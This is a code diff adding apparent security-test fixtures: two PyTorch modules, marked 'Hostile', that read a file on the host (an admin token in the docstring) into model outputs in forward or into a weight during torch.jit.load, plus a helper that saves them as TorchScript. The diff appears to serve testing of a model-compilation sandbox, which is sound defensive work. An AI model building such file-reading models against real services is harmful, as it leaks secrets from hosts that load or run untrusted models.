@@ -163,6 +163,47 @@ def write_lstm_onnx(path: Path) -> Path:
         return write_onnx(path, LstmNet().eval(), {"features": (1, 12, 8)}, ["logits"], opset=13)
 
 
+class FileReader(nn.Module):
+    """Hostile: `forward` reads a file the worker can read (the data dir's admin token, in a security sweep) into
+    its output, so the compiled model carries the file's bytes to whoever downloads it."""
+
+    def __init__(self, path: str) -> None:
+        super().__init__()
+        self.path = path
+
+    def forward(self, image: torch.Tensor) -> torch.Tensor:
+        stolen = torch.from_file(self.path, shared=False, size=16, dtype=torch.uint8)
+        return image + stolen.float().reshape(1, 1, 4, 4)
+
+
+class ReadsOnLoad(nn.Module):
+    """Hostile: its `__setstate__` runs inside torch.jit.load and reads a file into a weight."""
+
+    def __init__(self, path: str) -> None:
+        super().__init__()
+        self.path = path
+        self.weight = torch.ones(1)
+
+    def forward(self, image: torch.Tensor) -> torch.Tensor:
+        return image * self.weight
+
+    @torch.jit.export
+    def __getstate__(self) -> tuple[str, torch.Tensor, bool]:
+        return (self.path, self.weight, self.training)
+
+    @torch.jit.export
+    def __setstate__(self, state: tuple[str, torch.Tensor, bool]) -> None:
+        self.path = state[0]
+        self.weight = state[1] + torch.from_file(self.path, shared=False, size=1, dtype=torch.uint8).float()
+        self.training = state[2]
+
+
+def write_hostile_torchscript(path: Path, target: Path, on_load: bool = False) -> Path:
+    """A scripted module that reads `target` in forward (or, with on_load, while being loaded)."""
+    torch.jit.script((ReadsOnLoad if on_load else FileReader)(str(target))).save(str(path))
+    return Path(path)
+
+
 def two_input_net() -> TwoInputNet:
     torch.manual_seed(0)
     return TwoInputNet().eval()
